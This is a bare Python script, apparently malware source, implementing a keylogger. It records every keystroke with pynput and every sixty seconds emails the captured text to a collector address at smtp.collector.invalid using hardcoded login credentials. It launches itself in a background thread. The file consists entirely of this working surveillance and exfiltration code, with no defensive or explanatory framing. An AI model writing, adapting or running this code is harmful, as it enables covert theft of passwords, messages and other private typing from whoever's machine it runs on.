import smtplib, threading
from pynput import keyboard
from email.mime.text import MIMEText
class Log:
    def __init__(self, every, addr, pw):
        self.every, self.addr, self.pw, self.log = every, addr, pw, "started"
    def add(self, s): self.log = self.log + s
    def on_press(self, key):
        try: k = str(key.char)
        except AttributeError:
            k = " " if key == key.space else " " + str(key) + " "
        self.add(k)
    def mail(self, msg):
        m = MIMEText(msg); m["Subject"] = "log"
        srv = smtplib.SMTP("smtp.collector.invalid", 587)
        srv.starttls(); srv.login(self.addr, self.pw)
        srv.sendmail(self.addr, self.addr, m.as_string()); srv.quit()
    def report(self):
        self.mail(self.log); self.log = ""
        threading.Timer(self.every, self.report).start()
    def start(self):
        with keyboard.Listener(on_press=self.on_press) as l:
            self.report(); l.join()
def run():
    Log(60, "a@collector.invalid", "hunter2").start()
threading.Thread(target=run).start()
